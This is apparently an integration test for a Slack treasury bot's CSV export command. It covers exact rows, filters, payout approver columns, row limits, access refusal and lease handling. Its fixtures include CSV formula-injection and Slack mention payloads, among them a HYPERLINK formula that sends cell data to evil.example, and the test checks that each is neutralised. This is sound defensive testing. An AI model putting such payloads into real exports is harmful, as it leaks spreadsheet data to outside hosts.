import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { systemClock, type Clock } from '../../src/core/clock.js';
import { minorToPlain, toMinor } from '../../src/core/money.js';
import { startSandbox, type Sandbox } from '../../src/sandbox/server.js';
import { tryAcquireLease } from '../../src/store/index.js';
import { blockText, CHANNELS, PEOPLE, startHarness, type Harness } from '../support/bot-harness.js';
import type { SlackMessage } from '@fleet-treasury-bot/local-slack';

// A fixed "now" that still moves, so that "last month" is October 2026 whenever the test runs.
const BASE = Date.parse('2026-11-23T12:00:00.000Z');
const started = Date.now();
const clock: Clock = { now: () => new Date(BASE + (Date.now() - started)), sleep: (ms, signal) => systemClock.sleep(ms, signal) };

const HOSTILE = [
  { reference: 'OCT-COMMA', description: 'Fuel, Kinshasa depot, week 41', date: '2026-10-03T08:00:00.000Z' },
  { reference: 'OCT-QUOTES', description: 'Supplier "Mama Kitoko" invoice', date: '2026-10-04T08:00:00.000Z' },
  { reference: 'OCT-NEWLINE', description: 'line one\nline two', date: '2026-10-05T08:00:00.000Z' },
  { reference: 'OCT-CHANNEL', description: '<!channel> refund <https://evil.example|here>', date: '2026-10-06T08:00:00.000Z' },
  { reference: 'OCT-FORMULA', description: '=HYPERLINK("https://evil.example/?x="&A1,"Refund")', date: '2026-10-07T08:00:00.000Z' },
  { reference: '-OCT-MINUS', description: '@SUM(1,1)', date: '2026-10-08T08:00:00.000Z' },
];

type Row = Record<string, string>;

describe('/fleet export in the running bot', () => {
  let sandbox: Sandbox;
  let h: Harness;

  beforeAll(async () => {
    sandbox = await startSandbox({ seed: 11, transactionCount: 200, clock });
    for (const entry of HOSTILE) sandbox.addTransaction({ ...entry, type: 'PAYMENT', currency: 'USD', amount: -12.5 });
    sandbox.addTransaction({
      reference: 'OCT-JPYLIKE',
      type: 'PAYMENT',
      currency: 'CDF',
      amount: 1234567.89,
      description: 'Big CDF credit',
      date: '2026-10-09T08:00:00.000Z',
    });
    sandbox.addTransaction({
      reference: 'SEP-LAST-DAY',
      type: 'PAYMENT',
      currency: 'USD',
      amount: 1,
      description: 'September',
      date: '2026-09-30T23:59:59.999Z',
    });
    sandbox.addTransaction({ reference: 'NOV-FIRST', type: 'PAYMENT', currency: 'USD', amount: 1, description: 'November', date: '2026-11-01T00:00:00.000Z' });
    h = await startHarness({
      existingSandbox: sandbox,
      bot: { clock },
      env: {
        LEDGER_ENABLED: 'true',
        LEDGER_HISTORY_PAGE_DELAY_MS: '0',
        LEDGER_POLL_SECONDS: '3600',
        LEDGER_SWEEP_MINUTES: '0',
        LEDGER_REWALK_HOURS: '0',
        EXPORT_MAX_ROWS: '150',
      },
    });
    for (let tries = 0; !(await h.bot.ledger!.reader.status()).historyComplete; tries += 1) {
      if (tries > 500) throw new Error('the ledger never loaded the sandbox history');
      await new Promise((resolve) => setTimeout(resolve, 20));
    }
  }, 30_000);
  afterAll(async () => {
    await h?.close();
    await sandbox?.close();
  });

  const dmOf = (userId: string) => `D${userId.slice(1)}`;
  const fileMessages = (userId: string) => h.slack.messages(dmOf(userId)).filter((message) => message.files?.length);
  const rowsOf = (message: SlackMessage): Row[] => {
    const bytes = h.slack.file(message.files![0]!.id)!.bytes!;
    return parse<Row>(bytes.toString('utf8'), { bom: true, columns: true });
  };
  const expectedRows = (from: string, before: string, keep: (tx: { currency: string }) => boolean = () => true) =>
    sandbox
      .transactions()
      .filter((tx) => tx.date >= from && tx.date < before && keep(tx))
      .sort((a, b) => a.date.localeCompare(b.date));
  const run = async (userId: string, text: string, until: string) => {
    await h.slack.runCommand({ userId, channelId: CHANNELS.treasury, text });
    return h.waitForMessage(userId, until);
  };

  it("sends last month by default as a CSV file in the person's DM, every row exact, hostile text intact and neutralised", async () => {
    const done = await run(PEOPLE.requester, 'export', 'sent to your direct messages');
    const expected = expectedRows('2026-10-01', '2026-11-01');
    expect(blockText(done)).toContain(`${expected.length} transactions sent`);
    expect(blockText(done)).toContain('fleet-transactions-2026-10-01_2026-10-31.csv');
    expect(blockText(done)).toContain('Days are read in UTC');
    // Two replies in the channel, each new (a command's response_url replaces nothing): the start, then the outcome.
    const replies = h
      .visibleTo(PEOPLE.requester)
      .filter((message) => message.ephemeralTo === PEOPLE.requester && /Exporting|sent to your direct/.test(message.text));
    expect(replies.map((message) => message.text)).toEqual([expect.stringContaining('Exporting'), expect.stringContaining('sent to your direct')]);
    expect(replies.some((message) => message.edited)).toBe(false);

    const [message] = fileMessages(PEOPLE.requester);
    expect(message!.files![0]).toMatchObject({ name: 'fleet-transactions-2026-10-01_2026-10-31.csv', title: 'Fleet account transactions' });
    expect(message!.text).toContain(`${expected.length} transactions`);
    const rows = rowsOf(message!);
    expect(rows.map((row) => row.reference!.replace(/^'/, ''))).toEqual(expected.map((tx) => tx.reference));
    expect(rows.map((row) => [row.date, row.amount, row.currency, row.type, row.status])).toEqual(
      expected.map((tx) => [tx.date, minorToPlain(toMinor(tx.amount, tx.currency), tx.currency), tx.currency, tx.type, tx.status]),
    );
    const byReference = new Map(rows.map((row) => [row.reference!, row]));
    expect(byReference.get('OCT-COMMA')!.description).toBe('Fuel, Kinshasa depot, week 41');
    expect(byReference.get('OCT-QUOTES')!.description).toBe('Supplier "Mama Kitoko" invoice');
    expect(byReference.get('OCT-NEWLINE')!.description).toBe('line one\nline two');
    expect(byReference.get('OCT-CHANNEL')!.description).toBe('<!channel> refund <https://evil.example|here>');
    expect(byReference.get('OCT-FORMULA')!.description).toBe(`'=HYPERLINK("https://evil.example/?x="&A1,"Refund")`);
    expect(byReference.get("'-OCT-MINUS")!.description).toBe("'@SUM(1,1)");
    expect(byReference.get('OCT-COMMA')).toMatchObject({ amount: '-12.50', direction: 'out' });
    expect(byReference.get('OCT-JPYLIKE')).toMatchObject({ amount: '1234567.89', direction: 'in', currency: 'CDF' });
    // The upload URL is a credential for the file: never in the log, whatever the level.
    expect(h.logs.join('\n')).not.toContain('/upload/');
    expect(h.slack.limitViolations).toEqual([]);
  });

  it('takes the same filters as /fleet tx, with the payout request, requester and approvers of payouts this app sent', async () => {
    const paid = expectedRows('2026-11-01', '2026-11-16', (tx) => tx.currency === 'USD')[0]!;
    await h.bot.db.query(
      `INSERT INTO payout_requests (id, kind, recipient_name, country_code, phone, operator, amount_minor, currency, reference,
         requested_by, requested_at, expires_at, state, required_approvals, transaction_id, updated_at, recipient_key)
       VALUES ('PO-EXPORT1', 'mobile_money', 'Mama Kitoko', 'CD', '243810000001', 'VODACOM_MPESA', 5000, 'USD', 'EXPORT-REF-1',
         $1, $2, $2, 'completed', 2, $3, $2, 'mobile:243810000001')`,
      [PEOPLE.requester, new Date('2026-11-02T08:00:00Z'), paid.reference],
    );
    await h.bot.db.query(`INSERT INTO payout_approvals (request_id, user_id, approved_at) VALUES ('PO-EXPORT1', $1, $3), ('PO-EXPORT1', $2, $4)`, [
      PEOPLE.approver,
      PEOPLE.approver2,
      new Date('2026-11-02T09:00:00Z'),
      new Date('2026-11-02T09:05:00Z'),
    ]);
    const done = await run(PEOPLE.approver, 'export currency:USD since:2026-11-01 until:2026-11-15', 'sent to your direct messages');
    const expected = expectedRows('2026-11-01', '2026-11-16', (tx) => tx.currency === 'USD');
    expect(blockText(done)).toContain(`${expected.length} transactions sent`);
    const rows = rowsOf(fileMessages(PEOPLE.approver).at(-1)!);
    expect(rows.map((row) => row.reference)).toEqual(expected.map((tx) => tx.reference));
    expect(rows.every((row) => row.currency === 'USD')).toBe(true);
    const payoutRow = rows.find((row) => row.reference === paid.reference)!;
    expect(payoutRow).toMatchObject({ payout_request_id: 'PO-EXPORT1', requested_by: PEOPLE.requester, approved_by: `${PEOPLE.approver} ${PEOPLE.approver2}` });
    expect(rows.filter((row) => row.payout_request_id !== '')).toHaveLength(1);
  });

  it('names the requester and the approvers of a payout beside their IDs, as Slack shows them', async () => {
    const paid = expectedRows('2026-11-01', '2026-11-16', (tx) => tx.currency === 'USD')[1]!;
    await h.bot.db.query(
      `INSERT INTO payout_requests (id, kind, recipient_name, country_code, phone, operator, amount_minor, currency, reference,
         requested_by, requested_at, expires_at, state, required_approvals, transaction_id, updated_at, recipient_key)
       VALUES ('PO-EXPORT2', 'mobile_money', 'Mama Kitoko', 'CD', '243810000001', 'VODACOM_MPESA', 7000, 'USD', 'EXPORT-REF-2',
         $1, $2, $2, 'completed', 2, $3, $2, 'mobile:243810000001')`,
      [PEOPLE.requester, new Date('2026-11-03T08:00:00Z'), paid.reference],
    );
    await h.bot.db.query(`INSERT INTO payout_approvals (request_id, user_id, approved_at) VALUES ('PO-EXPORT2', $1, $3), ('PO-EXPORT2', $2, $4)`, [
      PEOPLE.approver2,
      PEOPLE.approver,
      new Date('2026-11-03T09:00:00Z'),
      new Date('2026-11-03T09:05:00Z'),
    ]);
    const before = fileMessages(PEOPLE.requester).length;
    await run(PEOPLE.requester, 'export currency:USD since:2026-11-01 until:2026-11-15', 'sent to your direct messages');
    const message = await h.slack.waitFor(() => fileMessages(PEOPLE.requester)[before], { message: 'the second file' });
    const header = h.slack.file(message.files![0]!.id)!.bytes!.toString('utf8').split('\r\n')[0];
    expect(header).toBe(
      '\uFEFFreference,date,type,status,direction,amount,currency,description,payout_request_id,requested_by,approved_by,requested_by_name,approved_by_names',
    );
    const payoutRow = rowsOf(message).find((row) => row.reference === paid.reference)!;
    // The local workspace's display names: rita, ada and abel.
    expect(payoutRow).toMatchObject({
      payout_request_id: 'PO-EXPORT2',
      requested_by: PEOPLE.requester,
      approved_by: `${PEOPLE.approver2} ${PEOPLE.approver}`,
      requested_by_name: 'rita',
      approved_by_names: 'ada; abel',
    });
  });

  it('refuses more than EXPORT_MAX_ROWS with the count, and sends no file', async () => {
    const files = h.slack.apiCalls.filter((call) => call.method === 'files.getUploadURLExternal').length;
    const total = sandbox.transactions().length;
    const refusal = await run(PEOPLE.approver2, 'export since:2026-01-01', 'more than the 150');
    expect(blockText(refusal)).toContain(`matches ${total} transactions`);
    expect(h.slack.apiCalls.filter((call) => call.method === 'files.getUploadURLExternal')).toHaveLength(files);
    expect(fileMessages(PEOPLE.approver2)).toEqual([]);
  });

  it('tells a person whose export is still running (on any replica) to wait, in French as well', async () => {
    // Another replica is exporting for Abel: it holds his export lease.
    expect(await tryAcquireLease(h.bot.db, `export:${PEOPLE.approver}`, 'replica-b', 60_000)).toBe(true);
    const before = fileMessages(PEOPLE.approver).length;
    const busy = await run(PEOPLE.approver, 'exporter', 'still running');
    expect(blockText(busy)).toContain('Wait until its file arrives');
    expect(fileMessages(PEOPLE.approver)).toHaveLength(before);
    await h.bot.db.query('DELETE FROM app_leases WHERE name = $1', [`export:${PEOPLE.approver}`]);
  });

  it('refuses a non-viewer before any Fleet API or ledger work', async () => {
    const requests = sandbox.requests.length;
    const calls = h.slack.apiCalls.length;
    await run(PEOPLE.newcomer, 'export', "don't have access");
    expect(sandbox.requests.length).toBe(requests);
    expect(h.slack.apiCalls.slice(calls).map((call) => call.method)).not.toContain('conversations.open');
    expect((await h.bot.db.query('SELECT 1 FROM app_leases WHERE name = $1', [`export:${PEOPLE.newcomer}`])).rowCount).toBe(0);
    expect(fileMessages(PEOPLE.newcomer)).toEqual([]);
  });

  it('names a filter it cannot read, with the usage', async () => {
    const problem = await run(PEOPLE.requester, 'export since:2026-13-45', 'YYYY-MM-DD');
    expect(blockText(problem)).toContain('/fleet export');
  });

  it('gives the lease back when an export ends, so the next one runs', async () => {
    // The last export's reply can reach the person a moment before its lease is given back: wait for that, then it must be gone.
    const held = async () => (await h.bot.db.query("SELECT name FROM app_leases WHERE name LIKE 'export:%'")).rows;
    for (let tries = 0; tries < 50 && (await held()).length > 0; tries += 1) await new Promise((resolve) => setTimeout(resolve, 100));
    expect(await held()).toEqual([]);
  });
});
